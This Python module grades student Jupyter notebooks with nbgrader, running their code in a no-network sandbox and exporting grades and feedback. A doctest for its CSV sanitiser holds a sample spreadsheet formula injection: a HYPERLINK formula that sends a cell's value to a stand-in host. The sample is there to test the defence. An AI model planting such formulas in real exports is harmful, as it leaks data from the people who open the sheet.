"""`course grade`: a folder (or zip) of submissions -> nbgrader gradebook, grades.csv and feedback pages.

1. Read every file without trusting it (`submissions.py`); duplicates, unreadable files and names that
   name no chapter become summary lines, not crashes; so do files left out on purpose. No notebook at all
   is a failure, not an empty success.
2. Match each notebook's cells to the chapter's source (`match.py`): graded test cells come back from
   the source with their hidden tests; edits, deletions and stripped metadata are noted.
3. Run each prepared notebook twice, each run confined by the grading sandbox (`confined.py`, `sandbox.py`:
   bubblewrap by default, no network, an empty scratch, nothing of the course in view): the notebook as handed
   out in a kernel, for its outputs; and the checker (`checker.py`), which runs the chapter's setup and graded
   test cells, hidden tests included, while the student's TODO functions answer from processes of their own.
   The checker's verdicts decide the grade; the kernel's outputs are only shown.
4. In this process, one at a time (sqlite has one writer), after both runs have ended: the verdicts become the
   test cells' outputs, and nbgrader's autograde (its Execute step removed) restores locked cells, scores the
   test cells, records the grades and writes the autograded notebook without the hidden tests. Then the
   feedback page and, at the end, grades.csv. A submission whose setup or tests could not run through no fault
   of its own (a timeout on a loaded machine) is not graded but marked for regrading.

Nothing already in the gradebook is graded again without `force`.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import os
import re
import shutil
import signal
import sys
import threading
import time
import traceback
import warnings
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

from ..grading import student_source
from ..grading.protocol import CheckerJob
from . import build, cells, confined, feedback, gradelog, match, sandbox, submissions
from .build import interpreter_bin_on_path
from .cells import nbgrader_meta
from .outcome import GradeRun, Outcome, Status
from .recording import all_or_nothing, course_lock, recover

Names = tuple[str | None, str | None]  # a roster's (first name, last name); None: the roster has no such column


@dataclass
class Chapter:
    name: str
    source: Any
    release: Any


def known_chapters(root: Path) -> list[str]:
    names = {p.stem for p in build.chapter_sources(root / "chapters")}
    names |= {p.name for p in (root / "source").glob("[0-9][0-9]_*") if p.is_dir()}
    return sorted(names)


def _gradebook_url(root: Path) -> str:
    return f"sqlite:///{root / 'gradebook.db'}"


def load_chapters(root: Path, names: set[str]) -> dict[str, Chapter]:
    """Source and release notebooks of `names`, building (nbgrader generate_assignment) what is missing."""
    from nbgrader.api import Gradebook, MissingEntry

    missing = []
    with Gradebook(_gradebook_url(root)) as gradebook:
        for name in sorted(names):
            try:
                gradebook.find_assignment(name)
                in_gradebook = True
            except MissingEntry:
                in_gradebook = False
            paths = [root / step / name / f"{name}.ipynb" for step in ("source", "release")]
            if not in_gradebook or not all(p.exists() for p in paths):
                missing.append(name)
    buildable = {p.stem for p in build.chapter_sources(root / "chapters")}
    if missing:
        build.build_course(root, only=[n for n in missing if n in buildable], lock=False)  # ours already
    chapters = {}
    for name in sorted(names):
        source, release = (root / step / name / f"{name}.ipynb" for step in ("source", "release"))
        if source.exists() and release.exists():
            chapters[name] = Chapter(name, nbformat.read(source, as_version=4), nbformat.read(release, as_version=4))
    return chapters


def already_graded(root: Path, student: str, chapter: str) -> bool:
    from nbgrader.api import Gradebook, MissingEntry

    if (root / "autograded" / student / chapter).exists():
        return True
    with Gradebook(_gradebook_url(root)) as gradebook:
        try:
            gradebook.find_submission(chapter, student)
        except MissingEntry:
            return False
    return True


def skip_reason(root: Path, submission: submissions.Submission) -> str:
    """Why an already graded submission is skipped, and whether this file differs from the last one handed to the
    grader (submitted/: a late resubmission, which `--force` on a folder holding only it grades without regrading
    the others). The last file handed in may be one that was not graded (failed, or marked for regrading)."""
    handed = root / "submitted" / submission.student / submission.chapter / f"{submission.chapter}.ipynb"
    if handed.is_file() and submission.raw is not None and handed.read_bytes() != submission.raw:
        return (
            "already graded, and this file differs from the last one handed to the grader (a resubmission?); to "
            "grade it, put it alone in a folder and run course grade on that folder with --force"
        )
    return "already graded; use --force to grade it again"


def _look_alike(notebook: Any, root: Path, filed_as: str) -> str:
    """'; it looks like chapter X' when another built chapter recognises the notebook."""
    best, best_share = None, match.MIN_RECOGNIZED
    for name in known_chapters(root):
        source, release = (root / step / name / f"{name}.ipynb" for step in ("source", "release"))
        if name == filed_as or not (source.exists() and release.exists()):
            continue
        chapter = Chapter(name, nbformat.read(source, as_version=4), nbformat.read(release, as_version=4))
        prepared = match.prepare(notebook, chapter.source, chapter.release)
        if prepared.unmatched is None and prepared.recognized > best_share:
            best, best_share = name, prepared.recognized
    return f"; it looks like chapter {best} (wrong chapter?)" if best else ""


class NbgraderRecorder:
    """nbgrader's autograde without its Execute step, run in this process on already executed notebooks."""

    def __init__(self, root: Path, staging: Path, roster: Mapping[str, Names] | None = None):
        from nbconvert.preprocessors import ClearMetadataPreprocessor
        from nbgrader.apps import NbGraderAPI
        from nbgrader.coursedir import CourseDirectory
        from nbgrader.preprocessors import (
            AssignLatePenalties,
            CheckCellMetadata,
            ClearHiddenTests,
            DeduplicateIds,
            IgnorePattern,
            LimitOutput,
            OverwriteCells,
            OverwriteKernelspec,
            SaveAutoGrades,
        )
        from traitlets.config.loader import PyFileConfigLoader

        from .nbgrader_hooks import ScrubTestOutputs

        self.root, self.staging, self.roster = root, staging, dict(roster or {})
        config = PyFileConfigLoader("nbgrader_config.py", path=str(root)).load_config()
        config.CourseDirectory.root = str(root)
        config.CourseDirectory.submitted_directory = str(staging)
        config.Autograde.sanitize_preprocessors = [
            DeduplicateIds,
            OverwriteKernelspec,
            OverwriteCells,
            CheckCellMetadata,
        ]
        # after the grades are saved, the hidden tests nbgrader restored into the test cells go again: the
        # autograded notebook (what formgrader shows and generate_feedback renders) never holds them
        config.Autograde.autograde_preprocessors = [
            IgnorePattern,
            ClearMetadataPreprocessor,
            LimitOutput,
            SaveAutoGrades,
            AssignLatePenalties,
            ClearHiddenTests,
            ScrubTestOutputs,
            CheckCellMetadata,
        ]
        self.api = NbGraderAPI(CourseDirectory(config=config), config=config)
        self.exchange = Path(config.Exchange.root) if "root" in config.Exchange else None

    def release(self, chapters: list[str]) -> None:
        """Each chapter into nbgrader's exchange (nbgrader_config.py's Exchange.root, inside the course), as
        `nbgrader release_assignment` does, unless it is there: formgrader then shows the chapters as released, not
        draft, and no longer warns that the exchange directory does not exist."""
        if self.exchange is None:  # a course whose config names no exchange: formgrader's default, left alone
            return
        self.exchange.mkdir(parents=True, exist_ok=True)
        released = self.api.get_released_assignments()
        for chapter in sorted(set(chapters) - released):
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                result = self.api.release_assignment(chapter)
            if not result.get("success"):
                raise RuntimeError(f"nbgrader release_assignment {chapter} failed: {result.get('log', '')[-600:]}")

    def record(self, student: str, chapter: str, executed: Any, timestamp: Path | None) -> str | None:
        """Grade one executed notebook into the gradebook; returns an error or None."""
        folder = self.staging / student / chapter
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(executed, str(folder / f"{chapter}.ipynb"))
        if timestamp is not None and timestamp.is_file():
            shutil.copy2(timestamp, folder / "timestamp.txt")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # nbgrader's models warn about sqlalchemy autoflush on every save
            name_student(self.root, student, self.roster.get(student))
            result = self.api.autograde(chapter, student, force=True, create=True)
        shutil.rmtree(folder, ignore_errors=True)
        return None if result.get("success") else "nbgrader autograde failed: " + nbgrader_cause(result)

    def scores(self, student: str, chapter: str) -> dict[str, tuple[float, float]]:
        return cell_scores(self.root, chapter, student)


# the last line of a Python traceback: `ValueError: could not convert string to float: 'abc'`
EXCEPTION_LINE = re.compile(r"^\s*(?:[A-Za-z_][\w.]*\.)?([A-Z]\w*(?:Error|Exception|Exit|Interrupt))(?::\s*(.*))?$")


def nbgrader_cause(result: Mapping[str, Any]) -> str:
    """Why nbgrader's API call failed, in a line: the last exception its log or traceback names. Its own exception
    (NbGraderException) only says "Please see the above traceback"; the cause is in the log it captured.

    >>> nbgrader_cause({"log": "[ERROR] Traceback ...\\n    ValueError: could not convert string to float: 'abc'",
    ...                 "error": "nbgrader.converters.base.NbGraderException: Please see the above traceback"})
    "ValueError: could not convert string to float: 'abc'"
    """
    lines = f"{result.get('log') or ''}\n{result.get('error') or ''}".splitlines()
    causes = [
        f"{match[1]}: {match[2]}" if match[2] else match[1]
        for match in map(EXCEPTION_LINE.match, lines)
        if match and match[1] != "NbGraderException"
    ]
    last = next((line.strip() for line in reversed(lines) if line.strip()), "no reason given")
    return (causes[-1] if causes else last)[:300]


def name_student(root: Path, student: str, names: Names | None) -> None:
    """The student's (first, last) name in the gradebook, for formgrader, which shows "None, None" without one.

    A roster's names replace what is there; without a roster, a student who has no name yet gets the id as last
    name (formgrader shows "alice, "), and a name an instructor typed in formgrader is kept.
    """
    from nbgrader.api import Gradebook

    with Gradebook(_gradebook_url(root)) as gradebook:
        _name_in(gradebook, student, names)


def _name_in(gradebook: Any, student: str, names: Names | None) -> None:
    """name_student's rule, in a gradebook the caller has open. A name the roster leaves out (None: no such column)
    stays as it is, as `nbgrader db student import` leaves it."""
    from nbgrader.api import MissingEntry

    try:
        known = gradebook.find_student(student)
    except MissingEntry:
        known = None
    given = dict(zip(("first_name", "last_name"), names or (None, None), strict=True))
    given = {field: name for field, name in given.items() if name is not None}
    if known is None or (known.first_name is None and known.last_name is None):
        gradebook.update_or_create_student(student, **{"first_name": "", "last_name": student, **given})
    elif given:
        gradebook.update_or_create_student(student, **given)


def apply_roster(root: Path, roster: Mapping[str, Names]) -> None:
    """Every roster student in the gradebook under the roster's names, whether or not this run grades them: one
    without a submission is listed (formgrader shows what is missing), and a run that skips every file still
    renames. A roster id that differs only in case from a student already in the gradebook names that student (no
    second one). root/gradebook.db is created when there is none yet."""
    from nbgrader.api import Gradebook

    with Gradebook(_gradebook_url(root)) as gradebook:
        known = {student.id.casefold(): student.id for student in gradebook.students}
        for student, names in roster.items():
            _name_in(gradebook, known.get(student.casefold(), student), names)


def read_roster(path: Path) -> dict[str, Names]:
    """student id -> (first name, last name), from a CSV as `nbgrader db student import` reads it: a header row
    with `id` and optional `first_name`, `last_name` (spaces around a column's name do not count; other columns,
    e.g. email, are ignored). A name column the roster lacks reads as None: the gradebook's name stays."""
    path = Path(path)
    try:
        with path.open(newline="", encoding="utf-8-sig") as handle:
            reader = csv.DictReader(handle)
            header = [name.strip() for name in reader.fieldnames or []]
            reader.fieldnames = header
            rows = list(reader)
    except (OSError, UnicodeDecodeError, csv.Error) as error:
        raise ValueError(f"roster {path}: cannot be read as CSV ({error})") from error
    if "id" not in header:
        raise ValueError(f"roster {path}: needs a header row with an 'id' column, got {sorted(header)}")
    if not rows:
        raise ValueError(f"roster {path}: has a header row but no student under it")
    roster: dict[str, Names] = {}
    seen: dict[str, str] = {}
    for number, row in enumerate(rows, start=2):
        student = (row.get("id") or "").strip()
        if not student:
            raise ValueError(f"roster {path}, line {number}: empty id")
        if not submissions.STUDENT_ID.match(student):
            raise ValueError(
                f"roster {path}, line {number}: id {student!r} is not a student id the grader reads from a file "
                "name (letters, digits and ._@+-, starting with a letter or digit)"
            )
        if student.casefold() in seen:
            same = "" if seen[student.casefold()] == student else f" (as {seen[student.casefold()]!r}: one student)"
            raise ValueError(f"roster {path}, line {number}: id {student!r} appears twice{same}")
        seen[student.casefold()] = student
        roster[student] = tuple(
            (row.get(column) or "").strip() if column in header else None for column in ("first_name", "last_name")
        )
    return roster


def cell_scores(root: Path, chapter: str, student: str) -> dict[str, tuple[float, float]]:
    """grade_id -> (score, max_score) of one graded submission, read from the gradebook (an ungraded cell: 0)."""
    from nbgrader.api import Gradebook

    with Gradebook(_gradebook_url(root)) as gradebook:
        notebook = gradebook.find_submission_notebook(chapter, chapter, student)
        return {g.name: (float(g.score or 0.0), float(g.max_score)) for g in notebook.grades}


def _stage_original(root: Path, submission: submissions.Submission) -> tuple[Path | None, str | None]:
    """The raw file into nbgrader's submitted/<student>/<chapter>/<chapter>.ipynb; returns the timestamp file, and a
    note when the timestamp.txt beside the submission was left out (nbgrader fails a notebook whose timestamp it
    cannot parse, and one stray timestamp.txt in a folder of submissions would fail every one of them)."""
    folder = root / "submitted" / submission.student / submission.chapter
    folder.mkdir(parents=True, exist_ok=True)
    original_stamp, staged = submission.path.parent / "timestamp.txt", folder / "timestamp.txt"
    in_place = original_stamp.parent.resolve() == folder.resolve()  # graded inside submitted/: one folder
    for written in (folder / f"{submission.chapter}.ipynb", *([] if in_place else [staged])):
        if written.is_symlink():  # never write through a link an earlier run's inbox left in submitted/
            written.unlink()
    (folder / f"{submission.chapter}.ipynb").write_bytes(submission.raw or b"")
    present = original_stamp.exists() or original_stamp.is_symlink()
    problem = _unreadable_timestamp(original_stamp) if present else None
    if present and submission.in_student_zip:
        problem = "it came in the student's own zip"
    if present and problem is None:
        if not in_place:
            shutil.copy2(original_stamp, staged)
        return staged, None
    if submission.path.is_file() and not (in_place and present):  # the file's own time, as nbgrader writes it
        staged.write_text(file_time(submission.path), encoding="utf-8")
        return staged, _left_out(problem, "the file's own time dates it instead")
    if staged.is_file() and not in_place:  # an earlier submission's stamp must not date this one
        staged.unlink()
    return (None if in_place else staged), _left_out(problem, "graded without a submission time")


def _left_out(problem: str | None, instead: str) -> str | None:
    return None if problem is None else f"the timestamp.txt beside it was left out ({problem}); {instead}"


def file_time(path: Path) -> str:
    """The file's modification time as nbgrader's timestamp.txt holds it: `2026-12-02 06:50:00.000000 UTC`.
    (Unzipping sets it: a zip member's own time, or for a zip among the submissions the zip's; see
    submissions._extract.)"""
    import datetime

    moment = datetime.datetime.fromtimestamp(Path(path).stat().st_mtime, tz=datetime.timezone.utc)
    return moment.strftime("%Y-%m-%d %H:%M:%S.%f UTC")


# What nbgrader's submission times look like (`2025-03-01 12:00:00.000000 UTC`, ISO forms): only such text reaches
# its parser, whose time-zone lookup opens whatever path a zone word names (`/dev/stdin` hangs, `../..` warns).
TIMESTAMP = re.compile(
    r"^\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}(:\d{2}(\.\d{1,9})?)?"
    r"( ?(UTC|GMT|Z|[+-]\d{2}(:?\d{2})?))?$"
)


MAX_STAMP_BYTES = 200


def _unreadable_timestamp(path: Path) -> str | None:
    """Why nbgrader could not read this timestamp file (as its CourseDirectory does), or None when it can."""
    from nbgrader.utils import parse_utc

    if path.is_symlink():  # an unpacked archive's link could point at any file the grader can read
        return "a symbolic link"
    if not path.is_file():
        return "not a file"
    if path.stat().st_size > MAX_STAMP_BYTES:  # nbgrader would read it whole; a time is 30 characters
        return f"{path.stat().st_size:,} bytes, more than a time takes"
    try:
        with open(path, "rb") as handle:
            text = handle.read().decode("utf-8").strip()
        if text and not TIMESTAMP.match(text):
            return f"not a time nbgrader writes: {text[:60]!r}"
        if text:
            parse_utc(text)
    except Exception as error:  # noqa: BLE001 - a probe: whatever stops the parser leaves the stamp out
        return f"not a time: {type(error).__name__}: {str(error)[:100]}"
    return None


def _prepare_all(
    root: Path, found: list[submissions.Submission], chapters: dict[str, Chapter], force: bool, outcomes: list[Outcome]
) -> list[tuple[submissions.Submission, match.Prepared]]:
    ready = []
    for submission in found:
        if sandbox.STOP.is_set():  # Ctrl-C: nothing is recorded yet
            raise KeyboardInterrupt
        outcome = Outcome(submission.display, submission.student, submission.chapter, Status.FAILED)
        if submission.problem is None and submission.chapter not in chapters:
            submission.problem = f"chapter {submission.chapter} has no source notebook (run `course build`)"
        if submission.problem is not None:
            outcome.reason = submission.problem
        elif not force and already_graded(root, submission.student, submission.chapter):
            outcome.status, outcome.reason = Status.SKIPPED, skip_reason(root, submission)
        else:
            chapter = chapters[submission.chapter]
            try:
                prepared = match.prepare(submission.notebook, chapter.source, chapter.release)
                if prepared.unmatched:
                    outcome.reason = (
                        "unmatched: " + prepared.unmatched + _look_alike(submission.notebook, root, submission.chapter)
                    )
                else:
                    ready.append((submission, prepared))
                    continue
            except Exception as error:  # noqa: BLE001 - one notebook the matcher cannot read must not stop the run
                outcome.reason = f"the grader could not match this notebook's cells: {type(error).__name__}: {error}"
        outcomes.append(outcome)
    return ready


def _require_kernel(kernel_name: str) -> None:
    """ValueError before anything is graded when no Jupyter kernel spec has this name: every submission would
    otherwise score 0 with 'NoSuchKernel' in its feedback, and a rerun with the right name would skip them all as
    already graded."""
    from jupyter_client.kernelspec import KernelSpecManager, NoSuchKernel

    try:
        KernelSpecManager().get_kernel_spec(kernel_name)
    except NoSuchKernel:
        raise ValueError(
            f"--kernel {kernel_name!r}: no Jupyter kernel spec has that name "
            "(`jupyter kernelspec list` shows the installed ones); nothing was graded"
        ) from None


def grade_submissions(
    source: Path,
    root: Path = build.NOTEBOOKS_DIR,
    *,
    workers: int | None = None,
    cell_timeout: float = 60,
    notebook_timeout: float = 900,
    force: bool = False,
    out: Path | None = None,
    progress: bool = True,
    kernel_name: str | None = None,
    confinement: confined.Confinement | None = None,
    roster: Mapping[str, Names] | None = None,
) -> GradeRun:
    """Grade every submission under `source` (folder or zip) into the course at `root`.

    roster: student id -> (first name, last name) for formgrader (`read_roster`), applied to every roster student
    before grading (`apply_roster`); without it, a graded student's id is their name.

    kernel_name None: every submission runs in ipykernel on this interpreter; a name: that Jupyter kernel spec.
    confinement: the sandbox around the student's code (default bwrap); sandbox.SandboxUnavailable, before anything
    is graded, when it cannot run here, and confined.GraderUnavailable when the checker cannot start in it.
    """
    confinement = confinement or confined.Confinement()
    sandbox.require(confinement.mode, image=confinement.image)
    confined.require_checker(confinement)
    started = time.perf_counter()
    root, out = Path(root).resolve(), Path(out or root).resolve()
    workers = max(1, workers or os.cpu_count() or 1)
    outcomes: list[Outcome] = []
    found = submissions.Found()
    stopped = False
    with course_lock(root), _interpreter_tools_on_path(), _stopping_on_signals():
        put_back = recover(root)
        if kernel_name is not None:
            _require_kernel(kernel_name)
        scratch = submissions.scratch_dir(root)
        try:
            found = submissions.discover(submissions.unpack(Path(source), scratch), known_chapters(root), scratch)
            if not found.submissions:
                return _nothing_found(source, found, time.perf_counter() - started, workers, put_back)
            if roster:
                apply_roster(root, roster)
            submissions.flag_duplicates(found.submissions)
            submitted = root / "submitted"
            submissions.flag_case_clashes(
                found.submissions,
                sorted(p.name for p in submitted.iterdir() if p.is_dir()) if submitted.is_dir() else [],
            )
            chapters = load_chapters(root, {s.chapter for s in found.submissions if s.chapter and s.problem is None})
            ready = _prepare_all(root, found.submissions, chapters, force, outcomes)
            if ready:
                _execute_and_record(
                    root,
                    out,
                    ready,
                    chapters,
                    workers=workers,
                    progress=progress,
                    limits=(cell_timeout, notebook_timeout),
                    kernel_name=kernel_name,
                    confinement=confinement,
                    staging=scratch / "executed",
                    roster=roster,
                    outcomes=outcomes,
                )
        except KeyboardInterrupt:  # Ctrl-C or SIGTERM: what was recorded stays, and the log and grades.csv say so
            stopped = True
        finally:
            shutil.rmtree(scratch, ignore_errors=True)
        order = {s.display: i for i, s in enumerate(found.submissions)}
        outcomes.sort(key=lambda o: order.get(o.display, 0))
        run = GradeRun(outcomes, time.perf_counter() - started, workers, notes=put_back + found.ignored())
        run.stopped = stopped
        run.csv_path = export_csv(root, out / "grades.csv", gradelog.update_log(root, outcomes))
    return run


@contextlib.contextmanager
def _interpreter_tools_on_path() -> Iterator[None]:
    """nbgrader runs `alembic` from PATH when it creates a gradebook: find the one beside this interpreter even
    when its virtual environment is not activated (as `course build` does)."""
    saved = os.environ.get("PATH")
    os.environ["PATH"] = interpreter_bin_on_path()["PATH"]
    try:
        yield
    finally:
        if saved is None:
            os.environ.pop("PATH", None)
        else:
            os.environ["PATH"] = saved


@contextlib.contextmanager
def _stopping_on_signals() -> Iterator[None]:
    """Ctrl-C and SIGTERM ask the run to stop: they set sandbox.STOP, and the run stops where nothing is half done
    (between two recordings, `confined.grade_all`; or before anything is recorded, `_prepare_all`), never inside
    nbgrader, which would take an exception there for the notebook's fault. A signal set to be ignored (a job
    started in the background) stays ignored. Only in the main thread, where signals arrive."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return

    def stop(signum: int, frame: Any) -> None:
        sandbox.STOP.set()

    sandbox.STOP.clear()
    before = {
        number: signal.signal(number, stop)
        for number in (signal.SIGINT, signal.SIGTERM)
        if signal.getsignal(number) is not signal.SIG_IGN
    }
    try:
        yield
    finally:
        for number, handler in before.items():
            if handler is not None:  # None: a handler installed from C, which Python cannot put back
                signal.signal(number, handler)
        sandbox.STOP.clear()


def _nothing_found(source: Path, found: submissions.Found, seconds: float, workers: int, notes: list[str]) -> GradeRun:
    """No notebook anywhere under `source`: one failed line (exit 1), and the gradebook and grades.csv untouched."""
    reason = "no notebook (.ipynb) found" + ("; " + "; ".join(found.ignored()) if found.ignored() else "")
    return GradeRun([Outcome(str(source), None, None, Status.FAILED, reason)], seconds, workers, notes=notes)


def _jobs(
    ready: list, chapters: dict[str, Chapter], limits: tuple[float, float], kernel_name: str | None
) -> list[dict]:
    """The two runs of every ready submission: its notebook in a kernel (as handed out), its TODO cells under the
    checker (with the chapter source's setup and graded test cells)."""
    jobs = []
    for submission, prepared in ready:
        source = chapters[submission.chapter].source
        tests = cells.graded_cells(source)
        jobs.append(
            {
                "key": submission.key,
                "kernel": {
                    "key": submission.key,
                    "notebook": nbformat.writes(prepared.notebook),
                    "cell_timeout": limits[0],
                    "notebook_timeout": limits[1],
                    "kernel_name": kernel_name,
                },
                "checker": CheckerJob(
                    setup=cells.setup_cells(source),
                    tests=tests,
                    solutions=cells.solution_cells(prepared.notebook),
                    names=student_source.defined_functions(cells.solution_cells(source)),
                    answers=student_source.defined_answers(cells.solution_cells(source)),
                    cell_timeout=limits[0],
                    call_timeout=limits[0],
                ),
            }
        )
    return jobs


def _execute_and_record(
    root: Path,
    out: Path,
    ready: list,
    chapters: dict[str, Chapter],
    *,
    workers: int,
    progress: bool,
    limits: tuple[float, float],
    kernel_name: str | None,
    confinement: confined.Confinement,
    staging: Path,
    roster: Mapping[str, Names] | None = None,
    outcomes: list[Outcome] | None = None,
) -> list[Outcome]:
    """Run and record every ready submission; each outcome goes into `outcomes` (and the grading log) as it is
    recorded, so that a run stopped half way keeps what it recorded."""
    from tqdm import tqdm

    recorder = NbgraderRecorder(root, staging, roster)
    try:
        recorder.release(sorted(chapters))
    except Exception as failure:  # noqa: BLE001 - formgrader's status label must never cost a grade
        print(f"course grade: the chapters stay unreleased in formgrader: {failure}", file=sys.stderr)
    stamps = {}
    for submission, prepared in ready:
        stamps[submission.key], note = _stage_original(root, submission)
        prepared.notes += [note] if note else []
    by_key = {s.key: (s, p) for s, p in ready}
    outcomes = [] if outcomes is None else outcomes
    bar = tqdm(total=len(ready), desc="grading", unit="nb", disable=not progress, file=sys.stderr)

    def record(key: str, answer: dict, checked: confined.CheckerResult) -> None:
        submission, prepared = by_key[key]
        hidden = confined.hidden_lines(cells.graded_cells(chapters[submission.chapter].source))
        outcome = _record_one(recorder, out, submission, prepared, answer, checked, hidden, stamps[submission.key])
        outcome.notes += confinement_notes(confinement.mode, checked)
        outcomes.append(outcome)
        gradelog.update_log(root, [outcome], new_run=False)  # a run killed later keeps this one's notes
        bar.update(1)

    confined.grade_all(_jobs(ready, chapters, limits, kernel_name), workers, confinement, record)
    bar.close()
    return outcomes


UNCONFINED_NOTE = "graded with --sandbox none: the student's code ran with the instructor's rights"
NO_LANDLOCK_NOTE = (
    "graded without Landlock (the sandbox's kernel has none, or filters it): the checker's student processes could "
    "read the library's code and write where the checker works"
)


def confinement_notes(mode: str, checked: confined.CheckerResult) -> list[str]:
    """What a row must say about how its submission was confined: nothing when the sandbox held and the checker's
    student processes ran under Landlock (`checked.landlock` > 0, or unknown: a checker that ended first)."""
    if mode == "none":
        return [UNCONFINED_NOTE]
    return [NO_LANDLOCK_NOTE] if checked.landlock == 0 else []


def _record_one(
    recorder: NbgraderRecorder,
    out: Path,
    submission: submissions.Submission,
    prepared: match.Prepared,
    answer: dict,
    checked: confined.CheckerResult,
    hidden: list[str],
    stamp: Path,
) -> Outcome:
    outcome = Outcome(
        submission.display,
        submission.student,
        submission.chapter,
        Status.FAILED,
        notes=list(prepared.notes),
        seconds=float(answer.get("seconds") or 0.0) + checked.seconds,
    )
    regrade = confined.needs_regrade(checked)
    if regrade:
        outcome.status, outcome.reason = Status.REGRADE, f"needs regrading: {regrade}"
        return outcome
    try:  # this notebook's own content: what goes wrong here fails this notebook, not the run
        executed, notes = confined.executed_notebook(prepared.notebook, answer)
        outcome.notes += notes + confined.apply_verdicts(executed, checked, hidden)
        with all_or_nothing(recorder.root, out, submission.student, submission.chapter):
            error = recorder.record(submission.student, submission.chapter, executed, stamp)
            if error:  # the grade is in the test cells' verdicts: record them without the student's own text
                error, _ = match.neutralise_delimiters(error)  # a cause that quotes a marker line must not refuse too
                executed = without_students_text(executed, error)
                outcome.notes.append(f"recorded without your own cells' text: {error}")
                error = recorder.record(submission.student, submission.chapter, executed, stamp)
            if error:
                raise RecordingFailed(error)
            messages = feedback.graded_messages(executed)
            scores = recorder.scores(submission.student, submission.chapter)
            outcome.cells = [
                feedback.CellOutcome(grade_id, score, top, messages.get(grade_id, ""))
                for grade_id, (score, top) in _ordered(scores, executed)
            ]
            page = out / "feedback" / submission.student / submission.chapter / f"{submission.chapter}.html"
            page.parent.mkdir(parents=True, exist_ok=True)
            page.write_text(
                feedback.render_html(submission.student, submission.chapter, outcome.cells, outcome.notes),
                encoding="utf-8",
            )
    except RecordingFailed as failed:
        outcome.reason, outcome.cells = str(failed), []
        return outcome
    except Exception as failure:  # noqa: BLE001 - one notebook nbgrader cannot take must not stop the others
        traceback.print_exc(file=sys.stderr)  # for the instructor; the outcome says it in a line
        outcome.reason = (
            f"the grader failed while recording this notebook: {type(failure).__name__}: "
            f"{str(failure)[:300]} (the file is kept in submitted/; the gradebook, autograded/ and "
            "feedback/ are as they were)"
        )
        outcome.cells = []
        return outcome
    outcome.status = Status.GRADED
    return outcome


def without_students_text(notebook: Any, reason: str) -> Any:
    """A copy of an executed notebook in which every cell but the test and setup cells (whose outputs carry the
    verdicts) says only why its text is not there: what nbgrader can always record, at the grade the verdicts give."""
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        if cells.is_test_cell(cell) or cells.is_setup(cell):
            continue
        cell.source = f"# not recorded as written (see the submitted notebook): {reason[:300]}"
        if cell.cell_type != "code":
            cell.source = cell.source.removeprefix("# ")
        else:
            cell.outputs, cell.execution_count = [], None
    return notebook


class RecordingFailed(Exception):
    """nbgrader could not record a submission (its own message)."""


def _ordered(scores: dict[str, tuple[float, float]], notebook: Any) -> list[tuple[str, tuple[float, float]]]:
    order = [nbgrader_meta(c).get("grade_id") for c in notebook.cells]
    return sorted(scores.items(), key=lambda item: order.index(item[0]) if item[0] in order else len(order))


def export_csv(root: Path, path: Path, log: dict[str, dict[str, Any]]) -> Path:
    """grades.csv: one row per student and chapter in the gradebook (the student's name as the gradebook has it,
    per-cell points in columns), with the notes and the fate of the latest submission from the grading log, plus a
    row per logged failure with no grade."""
    from nbgrader.api import Gradebook

    rows: dict[tuple[str, str], dict[str, Any]] = {}
    columns: list[str] = []
    with Gradebook(_gradebook_url(root)) as gradebook, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # nbgrader's models warn about autoflush while we only read
        names = {
            student.id: " ".join(part for part in (student.first_name, student.last_name) if part)
            for student in gradebook.students
        }
        for assignment in sorted(gradebook.assignments, key=lambda a: a.name):
            for student_submission in assignment.submissions:
                for notebook in student_submission.notebooks:
                    row = {
                        "student": student_submission.student.id,
                        "chapter": assignment.name,
                        "status": Status.GRADED,
                        "score": notebook.score,
                        "max_score": notebook.max_score,
                        "notes": "",
                    }
                    for grade in sorted(notebook.grades, key=lambda g: g.name):
                        column = f"{assignment.name}:{grade.name}"
                        if column not in columns:
                            columns.append(column)
                        row[column] = grade.score
                    rows[(row["student"], row["chapter"])] = row
    for entry in log.values():
        key = (entry["student"], entry["chapter"])
        if key not in rows:
            if entry["status"] in (Status.FAILED, Status.REGRADE):  # a regrade's reason starts "needs regrading: "
                status = entry["reason"] if entry["status"] == Status.REGRADE else "failed: " + entry["reason"]
                rows[key] = {
                    "student": key[0],
                    "chapter": key[1],
                    "status": status,
                    "score": "",
                    "max_score": "",
                    "notes": f"file: {entry['file']}",
                }
        elif entry["status"] == Status.GRADED:
            rows[key]["notes"] = entry["notes"]
            graded_against = entry.get("max_score")
            if graded_against is not None and float(graded_against) != float(rows[key]["max_score"]):
                rows[key]["status"] = (
                    f"graded against {graded_against:g} points; the chapter now has "
                    f"{float(rows[key]['max_score']):g}: grade it again with --force"
                )
        else:  # graded before; the latest submission could not be graded, so the grade shown is the earlier one
            what = entry["reason"] if entry["status"] == Status.REGRADE else f"failed: {entry['reason']}"
            rows[key]["status"] = f"graded; a later submission ({entry['file']}) {what}"
    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(path.name + ".partial")
    with open(partial, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(
            handle, ["student", "name", "chapter", "status", "score", "max_score", *columns, "notes"], restval=""
        )
        writer.writeheader()
        for key in sorted(rows):
            writer.writerow(
                {column: inert(value) for column, value in {**rows[key], "name": names.get(key[0], "")}.items()}
            )
    os.replace(partial, path)  # never half a table, even when the run is stopped while writing it
    return path


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula


def inert(value: Any) -> Any:
    """A CSV cell a spreadsheet shows instead of running: text that starts like a formula gets an apostrophe in
    front (a file named `=HYPERLINK(...)_01.ipynb` would otherwise be a live link in the instructor's sheet).

    >>> print(inert('=HYPERLINK("https://x.example/?" & E3)'))
    '=HYPERLINK("https://x.example/?" & E3)
    >>> inert("alice"), inert(7.5)
    ('alice', 7.5)
    """
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def summary(run: GradeRun) -> str:
    lines = []
    for o in run.outcomes:
        if o.status == Status.GRADED:
